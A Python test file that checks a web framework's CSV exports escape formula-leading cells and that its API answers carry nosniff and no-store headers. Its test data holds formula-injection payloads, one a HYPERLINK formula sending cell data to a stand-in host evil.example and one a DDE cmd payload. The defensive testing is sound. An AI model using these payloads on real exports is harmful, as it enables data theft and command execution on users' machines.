"""CSV exports open as data, and every response says how to treat it (issue 11, point 12).

Text cells beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return get a
leading apostrophe in the list export (all records, chosen records) and the pivot export;
numbers stay numbers. JSON, XML and CSV answers — RPC, call_kw, exports, health, errors —
carry ``X-Content-Type-Options: nosniff`` and ``Cache-Control: no-store``; pages and static
files carry ``nosniff`` too (static files keep their cache lifetime).
"""

from __future__ import annotations

import csv
import io
import json
import xmlrpc.client
from typing import Any

import pytest

from core.testing import ADMIN_PASSWORD, DatabaseFactory
from tests.web.conftest import WebClient

from .http_app import FullSite, envelope

NAMES = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")': "'=HYPERLINK(",
    "+49 30 1234": "'+49 30 1234",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "Plain - safe = text": "Plain - safe = text",
}


@pytest.fixture(scope="module")
def site(databases: DatabaseFactory) -> FullSite:
    site = FullSite(databases, addons=("test_web",), demo=True)
    site.ids = site.run(lambda env: env["test_web.task"].create(
        [{"name": name} for name in NAMES]).ids)
    site.action = site.run(lambda env: env.ref("test_web.action_tasks").id)
    return site


@pytest.fixture(scope="module")
def admin(site: FullSite) -> WebClient:
    client = WebClient(site.app)
    client.login("admin", ADMIN_PASSWORD)
    return client


def _rows(response: Any) -> list[list[str]]:
    assert response.mimetype == "text/csv", response.get_data(as_text=True)[:300]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def _check_cells(cells: list[str]) -> None:
    for name, start in NAMES.items():
        assert any(cell.startswith(start) for cell in cells), (name, cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_list_exports_escape_formulas(site: FullSite, admin: WebClient) -> None:
    everything = admin.get(f"/web/action/{site.action}/export?sd=0&q=")
    _check_cells([cell for row in _rows(everything) for cell in row])
    chosen = admin.post(f"/web/action/{site.action}/records",
                        [("op", "export")] + [("ids", str(i)) for i in site.ids])
    rows = _rows(chosen)
    assert len(rows) == len(NAMES) + 1
    _check_cells([cell for row in rows for cell in row])
    for response in (everything, chosen):
        assert response.headers["Cache-Control"] == "no-store"
        assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_pivot_export_escapes_row_labels(site: FullSite, admin: WebClient) -> None:
    response = admin.get(f"/web/action/{site.action}/pivot?sd=0&pr=name&export=csv")
    rows = _rows(response)
    _check_cells([row[0].strip(" ") for row in rows[1:]])
    assert response.headers["Cache-Control"] == "no-store"


def test_tab_and_carriage_return_starts_are_escaped_too() -> None:
    """(Char fields strip them, Text fields and labels may keep them.)"""
    from core.web.client.csv_export import csv_response
    response = csv_response([["\tx", "\ry", "=z", 2, -3.5, None, "a-b"]], "t")
    assert _rows(response) == [["'\tx", "'\ry", "'=z", "2", "-3.5", "", "a-b"]]
    assert response.headers["Content-Disposition"] == 'attachment; filename="t.csv"'


def test_machine_readable_answers_are_not_sniffed_nor_stored(site: FullSite,
                                                              admin: WebClient) -> None:
    client = site.client()
    version = envelope({"service": "common", "method": "version", "args": []})
    answers = {
        "jsonrpc": client.post("/jsonrpc", json=version),
        "jsonrpc error": client.post("/jsonrpc", json=envelope({"service": "nothing"})),
        "bad json": client.post("/jsonrpc", data="{oops", content_type="application/json"),
        "xmlrpc": client.post("/xmlrpc/2/common", data=xmlrpc.client.dumps((), "version"),
                              content_type="text/xml"),
        "health": client.get("/web/health"),
        "call_kw": admin.client.post("/web/dataset/call_kw", data=json.dumps(envelope({
            "model": "test_web.task", "method": "search_count", "args": [[]]})),
            content_type="application/json"),
    }
    for name, response in answers.items():
        assert response.mimetype.endswith(("json", "xml", "plain")), name
        assert response.headers.get("X-Content-Type-Options") == "nosniff", name
        assert response.headers.get("Cache-Control") == "no-store", name
    for page in (client.get("/web/login"), client.get("/web/login?redirect=%2Fweb"),
                 client.get("/no/such/page"), admin.get(f"/web/action/{site.action}/list")):
        assert page.headers.get("X-Content-Type-Options") == "nosniff"
        assert "no-store" in page.headers.get("Cache-Control", "")
